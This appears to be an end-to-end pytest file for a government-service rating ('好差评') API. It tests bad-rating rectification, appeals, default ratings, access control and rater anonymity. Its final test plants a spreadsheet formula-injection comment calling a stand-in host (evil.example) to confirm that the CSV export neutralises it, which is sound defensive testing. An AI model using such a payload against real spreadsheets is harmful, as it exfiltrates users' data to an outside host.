"""好差评 over HTTP (docs/ratings.md). SQLite: nothing here depends on the database (the figures'
SQL on both databases: tests/integration/test_ratings_figures.py)."""
import json
from datetime import timedelta

import pytest

from demo.materials import ZHANG_ID_NUMBER
from engine.services import ratings
from engine.services.accounts import auth as accounts
from engine.services.time_limits import timers
from tests.conftest import window_id
from tests.e2e.test_api import assert_problem, auth, client  # noqa: F401  (fixture)
from tests.form_samples import sample

pytestmark = pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)

ELDERLY = "620100-GG-MZ-0002"          # 高龄津贴: four township steps, refused is the shortest path to 办结
PHONE = "13800001234"
VILLAGE_WINDOW = "ZCZ-QS-W01"
BAD = {"level": 1, "indicators": {"efficiency": 1, "guide_accuracy": 2, "convenience": 1, "usability": 2},
       "comment": "跑了两趟才办完"}


def the_task(client, who):  # noqa: F811
    inbox = client.get("/api/v1/tasks", headers=who).json
    assert len(inbox) == 1, inbox
    return inbox[0]


def complete(client, who, data):  # noqa: F811
    task = the_task(client, who)
    data = sample(task["form_key"], **data) if task.get("form_key") else data
    r = client.post(f"/api/v1/tasks/{task['id']}/complete", headers=who, json={"data": data})
    assert r.status_code == 200, r.get_data(as_text=True)
    return task


def finished_case(client, demo, applicant) -> int:  # noqa: F811
    """高龄津贴 applied for online at the village window, taken to 办结 (refused) by the township."""
    r = client.post("/api/v1/cases", headers=applicant, json={
        "item_code": ELDERLY, "window_id": window_id(demo, VILLAGE_WINDOW), "channel": "online",
        "applicant": {"name": "张三", "id_number": ZHANG_ID_NUMBER, "phone": PHONE},
        "form": sample("apply_elderly_allowance")})
    assert r.status_code == 201, r.json
    for who, data in (("zcz_receiver", {}), ("zcz_reviewer", {}),
                      ("zcz_social_approver", {"decision": "refused", "opinion": "年龄未满八十周岁"}),
                      ("zcz_issuer", {})):
        complete(client, auth(client, who), data)
    case = client.get(f"/api/v1/cases/{r.json['id']}", headers=applicant).json
    assert case["lifecycle"] in ("completed", "delivered"), case     # 告知 delivers the refusal
    return r.json["id"]


def ledger_row(client, who, rect_id):  # noqa: F811
    [row] = [x for x in client.get("/api/v1/ratings/rectifications", headers=who).json["items"] if x["id"] == rect_id]
    return row


def no_rater(text: str) -> None:
    """No staff answer names the rater: not her account, username, name, ID number or phone."""
    for secret in ("applicant_zhang", "张三", ZHANG_ID_NUMBER, PHONE, "rater_account_id"):
        assert secret not in text, secret


def test_scheme_and_a_bad_visit_rating_opens_a_review_at_the_village(client, demo):  # noqa: F811
    scheme = client.get("/api/v1/ratings/scheme").json
    assert [lv["bad"] for lv in scheme["levels"]] == [False, False, False, True, True]
    assert scheme["default_after_working_days"] == 5
    assert client.get("/api/v1/windows/ZCZ-QS-W01/rating").json["visit"] is None
    assert_problem(client.post("/api/v1/windows/ZCZ-QS-W01/visits", json={}, headers=auth(client, "qcz_mjp_agent")),
                   403, "window_not_yours")
    visit = client.post("/api/v1/windows/ZCZ-QS-W01/visits", json={}, headers=auth(client, "zcz_qs_agent"))
    assert visit.status_code == 201, visit.json
    token = client.get("/api/v1/windows/ZCZ-QS-W01/rating").json["visit"]["token"]
    body = {"level": 1, "indicators": {"efficiency": 1, "competence": 2, "attitude": 1}, "comment": "态度差"}
    assert_problem(client.post(f"/api/v1/visits/{token}/rating", json={**body, "indicators": {}}), 422,
                   "rating_indicator_missing")
    rated = client.post(f"/api/v1/visits/{token}/rating", json=body)
    assert rated.status_code == 201 and rated.json["bad"] is True, rated.json
    assert_problem(client.post(f"/api/v1/visits/{token}/rating", json=body), 409, "already_rated")
    assert client.get("/api/v1/windows/ZCZ-QS-W01/rating").json["visit"] is None
    ledger = client.get("/api/v1/ratings/rectifications", headers=auth(client, "zcz_qs_agent")).json
    [row] = ledger["items"]
    assert row["status"] == "verifying" and row["review_case_id"] and row["staff_no"]
    assert client.get("/api/v1/ratings/rectifications", headers=auth(client, "qcz_mjp_agent")).json["items"] == []
    task = the_task(client, auth(client, "zcz_qs_agent"))
    assert task["case_id"] == row["review_case_id"]


def test_the_bad_rating_loop_an_appeal_and_a_default_rating(client, demo, clock):  # noqa: F811, C901
    zhang = auth(client, "applicant_zhang")
    agent, supervisor = auth(client, "zcz_qs_agent"), auth(client, "zcz_supervisor")

    # 办结 → the invitation
    first = finished_case(client, demo, zhang)
    [invitation] = client.get("/api/v1/ratings/invitations", headers=zhang).json
    assert invitation["case_id"] == first and invitation["due_on"]
    assert client.get("/api/v1/ratings/invitations", headers=agent).json == []

    # the applicant rates it 差评 online; once only
    rated = client.post(f"/api/v1/cases/{first}/ratings", headers=zhang, json=BAD)
    assert rated.status_code == 201, rated.json
    rating = rated.json
    assert (rating["channel"], rating["source"], rating["bad"], rating["can_rerate"]) == ("online", "active", True,
                                                                                           False)
    assert rating["indicators"]["overall"] == 1 and rating["rectification"]["status"] == "verifying"
    assert_problem(client.post(f"/api/v1/cases/{first}/ratings", headers=zhang, json=BAD), 409, "already_rated")
    assert client.get("/api/v1/ratings/invitations", headers=zhang).json == []
    rect_id = rating["rectification"]["id"]

    # the ledger at the village (谁办理谁负责: the receiving window's unit); no rater identity
    row = ledger_row(client, agent, rect_id)
    assert (row["status"], row["level"], row["comment"], row["window_name"]) == ("verifying", 1, "跑了两趟才办完",
                                                                                  row["window_name"])
    assert row["staff_no"] == "zcz_issuer"          # who completed the case's last task
    review_case = row["review_case_id"]

    # 核实 → 限期整改 → 整改 → 答复, all in the village agent's workbench
    task = complete(client, agent, {"finding": "属实：材料清单未一次告知", "path": "deadline", "due_on": "2026-12-18"})
    assert task["case_id"] == review_case
    row = ledger_row(client, agent, rect_id)
    assert (row["status"], row["path"], row["due_on"]) == ("fixing", "deadline", "2026-12-18")
    assert_problem(client.post(f"/api/v1/ratings/{rating['id']}/rerate", headers=zhang, json={"level": 4}), 409,
                   "rerate_not_open")
    complete(client, agent, {"note": "一次性告知单已上墙"})
    assert ledger_row(client, agent, rect_id)["status"] == "fixed"
    complete(client, agent, {"reply": "已整改：材料清单已一次性告知，致歉。"})
    review = client.get(f"/api/v1/cases/{review_case}", headers=agent).json
    assert review["status"] == "completed", review
    assert client.get("/api/v1/tasks", headers=agent).json == []

    # the applicant sees the reply and rates the fix, once; kept beside the 差评
    [mine] = client.get(f"/api/v1/cases/{first}/ratings", headers=zhang).json
    assert mine["rectification"]["reply"] == "已整改：材料清单已一次性告知，致歉。" and mine["can_rerate"] is True
    again = client.post(f"/api/v1/ratings/{rating['id']}/rerate", headers=zhang, json={"level": 4, "comment": "满意"})
    assert again.status_code == 201 and again.json["parent_id"] == rating["id"], again.json
    assert_problem(client.post(f"/api/v1/ratings/{rating['id']}/rerate", headers=zhang, json={"level": 5}), 409,
                   "rerate_not_open")
    assert [r["level"] for r in client.get(f"/api/v1/cases/{first}/ratings", headers=zhang).json] == [1, 4]

    # 回访 (the rater logged in: it counts in 回访率)
    assert_problem(client.post(f"/api/v1/ratings/rectifications/{rect_id}/revisit", headers=agent, json={"note": " "}),
                   422, "revisit_note_required")
    assert client.post(f"/api/v1/ratings/rectifications/{rect_id}/revisit", headers=agent,
                       json={"note": "电话回访，认可整改"}).status_code == 200
    assert ledger_row(client, agent, rect_id)["revisit_note"] == "电话回访，认可整改"

    # a second 差评, appealed: the township supervisor voids it, the reason kept
    second = finished_case(client, demo, zhang)
    bad2 = client.post(f"/api/v1/cases/{second}/ratings", headers=zhang, json={**BAD, "level": 2, "comment": "差"})
    assert bad2.status_code == 201, bad2.json
    rect2 = bad2.json["rectification"]["id"]
    complete(client, agent, {"finding": "经核实系误评", "path": "appeal"})
    assert ledger_row(client, agent, rect2)["status"] == "appealed"
    assert client.get("/api/v1/tasks", headers=agent).json == []
    complete(client, supervisor, {"void": True, "reason": "评价人误选事项，申诉成立"})
    assert ledger_row(client, agent, rect2)["status"] == "voided"
    complete(client, agent, {"reply": "经复核，该评价已作废。"})
    [voided] = client.get(f"/api/v1/cases/{second}/ratings", headers=zhang).json
    assert voided["voided"] is True and voided["can_rerate"] is False
    assert_problem(client.post(f"/api/v1/ratings/{voided['id']}/rerate", headers=zhang, json={"level": 5}), 409,
                   "rerate_not_open")

    # a third case left unrated: the default (满意) after 5 working days, by the clock
    third = finished_case(client, demo, zhang)
    assert ratings.fire_defaults(demo) == 0
    # and a review left open over those days: an internal case, no acceptance clock runs on it
    token = client.post("/api/v1/windows/ZCZ-QS-W01/visits", json={}, headers=agent).json["token"]
    assert client.post(f"/api/v1/visits/{token}/rating", json={
        "level": 2, "indicators": {"efficiency": 2, "competence": 2, "attitude": 2}}).status_code == 201
    open_review = the_task(client, agent)["case_id"]
    clock.advance(timedelta(days=4))
    assert ratings.fire_defaults(demo) == 0
    clock.advance(timedelta(days=6))                # past 5 working days (a weekend between)
    timers.fire_due(demo, "test")                   # the review cases run only their step deadlines
    assert ratings.fire_defaults(demo) == 1 and ratings.fire_defaults(demo) == 0
    zhang, agent, supervisor = (auth(client, who) for who in ("applicant_zhang", "zcz_qs_agent", "zcz_supervisor"))
    [default] = client.get(f"/api/v1/cases/{third}/ratings", headers=zhang).json
    assert (default["source"], default["level"], default["bad"]) == ("default", 4, False)
    assert_problem(client.post(f"/api/v1/cases/{third}/ratings", headers=zhang, json=BAD), 409, "already_rated")
    for case_id in (review_case, ledger_row(client, agent, rect2)["review_case_id"], open_review):
        view = client.get(f"/api/v1/cases/{case_id}", headers=agent).json
        assert view["clock_status"] != "running" and not view.get("deemed_accepted"), view
        assert view["warning"] == "none" and view["lifecycle"] in ("received", "completed"), view
    assert client.get(f"/api/v1/cases/{open_review}", headers=agent).json["status"] == "running"
    [still_open] = client.get("/api/v1/tasks", headers=agent).json
    assert still_open["case_id"] == open_review and still_open.get("warning", "none") == "none", still_open

    # the figures of the village: the voided 差评 and the re-rating are in none of them; the open
    # visit 差评 is anonymous (no 回访 counted) and not yet handled
    zcz = client.get("/api/v1/ratings/figures?group_by=unit", headers=auth(client, "admin")).json["rows"]
    [village] = [r for r in zcz if r["name"] == "清水村"]
    assert (village["total"], village["good"], village["bad"], village["active"], village["unrated"]) == (3, 1, 2, 2, 1)
    assert (village["good_rate"], village["bad_rate"], village["active_rate"], village["active_good_rate"]) == (
        1 / 3, 2 / 3, 2 / 3, 0.0)
    assert (village["unrated_rate"], village["bad_fixed_rate"], village["revisit_rate"]) == (0.5, 0.5, 1.0)
    unit_id = village["key"]
    summary = client.get(f"/api/v1/ratings/summary?unit_id={unit_id}", headers=supervisor)
    assert summary.status_code == 200 and summary.json["total"] == 3, summary.json
    tile = client.get(f"/api/v1/supervision/dashboard/summary?unit_id={unit_id}", headers=supervisor).json
    assert tile["ratings"] == summary.json                      # the dashboard's tile
    assert_problem(client.get(f"/api/v1/ratings/summary?unit_id={unit_id}", headers=auth(client, "qcz_supervisor")),
                   403, "outside_supervised_scope")

    # the ledger, the figures, the case's ratings and the CSVs as staff: never the rater
    for url in ("/api/v1/ratings/rectifications", "/api/v1/ratings/rectifications?format=csv",
                f"/api/v1/cases/{first}/ratings", f"/api/v1/ratings/figures?group_by=staff&unit_id={unit_id}",
                f"/api/v1/ratings/figures?group_by=staff&unit_id={unit_id}&format=csv"):
        r = client.get(url, headers=supervisor if "figures" in url else agent)
        assert r.status_code == 200, (url, r.get_data(as_text=True))
        no_rater(r.get_data(as_text=True))
    staff_rows = client.get(f"/api/v1/ratings/figures?group_by=staff&unit_id={unit_id}", headers=supervisor).json
    assert sorted(r["name"] for r in staff_rows["rows"]) == ["zcz_issuer", "zcz_qs_agent"]

    # the public disclosure: aggregates only
    month = "2026-11"                               # when they were rated
    public = client.get(f"/api/v1/ratings/public?month={month}")
    assert public.status_code == 200, public.json
    text = json.dumps(public.json, ensure_ascii=False)
    no_rater(text)
    assert "zcz_issuer" not in text and "ZCZ" not in text
    assert {(x["status"], x["path"]) for x in public.json["rectifications"]} >= {("fixed", "deadline"),
                                                                                 ("voided", "appeal")}


def test_another_applicant_gets_the_answer_of_other_case_reads(client, demo):  # noqa: F811
    zhang = auth(client, "applicant_zhang")
    first = finished_case(client, demo, zhang)
    accounts.create_account(demo, "applicant_li", "李四", "applicant", password="lianban-demo-li")
    r = client.post("/api/v1/auth/login", json={"username": "applicant_li", "password": "lianban-demo-li"})
    li = {"Authorization": f"Bearer {r.json['token']}"}
    refused = client.get(f"/api/v1/cases/{first}", headers=li)
    assert refused.status_code in (403, 404)
    for r in (client.get(f"/api/v1/cases/{first}/ratings", headers=li),
              client.post(f"/api/v1/cases/{first}/ratings", headers=li, json=BAD)):
        assert (r.status_code, r.json["code"]) == (refused.status_code, refused.json["code"])
    assert client.get("/api/v1/ratings/invitations", headers=li).json == []
    rated = client.post(f"/api/v1/cases/{first}/ratings", headers=zhang, json=BAD).json
    assert_problem(client.post(f"/api/v1/ratings/{rated['id']}/rerate", headers=li, json={"level": 5}), 404,
                   "rating_not_found")
    # staff out of scope: the same answer as reading the case
    out = auth(client, "qcz_mjp_agent")
    refused = client.get(f"/api/v1/cases/{first}", headers=out)
    r = client.get(f"/api/v1/cases/{first}/ratings", headers=out)
    assert (r.status_code, r.json["code"]) == (refused.status_code, refused.json["code"])
    # a staff member cannot rate; a case not yet 办结 is not open
    assert_problem(client.post(f"/api/v1/cases/{first}/ratings", headers=auth(client, "zcz_qs_agent"), json=BAD),
                   403, "applicant_only")
    # the review item is internal: no window starts it
    assert_problem(client.post("/api/v1/cases", headers=auth(client, "zcz_qs_agent"), json={
        "item_code": ratings.RATING_REVIEW_ITEM, "window_id": window_id(demo, VILLAGE_WINDOW), "channel": "window",
        "applicant": {"name": "张三"}, "form": sample("rating_review_start")}), 422, "item_internal")
    running = client.post("/api/v1/cases", headers=zhang, json={
        "item_code": ELDERLY, "window_id": window_id(demo, VILLAGE_WINDOW), "channel": "online",
        "applicant": {"name": "张三"}, "form": sample("apply_elderly_allowance")}).json["id"]
    assert_problem(client.post(f"/api/v1/cases/{running}/ratings", headers=zhang, json=BAD), 409, "rating_not_open")
    bad = assert_problem(client.post(f"/api/v1/cases/{first}/ratings", headers=zhang, json={**BAD, "level": 7}),
                         422, "request_invalid")
    assert bad["field"] == "level"
    bad = assert_problem(client.post(f"/api/v1/cases/{first}/ratings", headers=zhang,
                                     json={**BAD, "indicators": {**BAD["indicators"], "attitude": 3}}),
                         422, "rating_indicator_unknown")
    assert bad["field"] == "indicators.attitude"


def test_a_comment_written_as_a_formula_stays_text_in_the_ledger_csv(client, demo):  # noqa: F811
    """The ledger's CSV carries raters' own words into a supervisor's spreadsheet: a comment that
    a spreadsheet would run as a formula arrives as text (engine/domain/report_csv.py)."""
    zhang, agent = auth(client, "applicant_zhang"), auth(client, "zcz_qs_agent")
    case_id = finished_case(client, demo, zhang)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
    r = client.post(f"/api/v1/cases/{case_id}/ratings", headers=zhang, json={**BAD, "comment": formula})
    assert r.status_code == 201, r.json
    sheet = client.get("/api/v1/ratings/rectifications?format=csv", headers=agent)
    assert sheet.status_code == 200
    text = sheet.get_data(as_text=True)
    assert text.startswith("\ufeff")
    assert "'=HYPERLINK(" in text
    assert ',"=HYPERLINK(' not in text and ",=HYPERLINK(" not in text
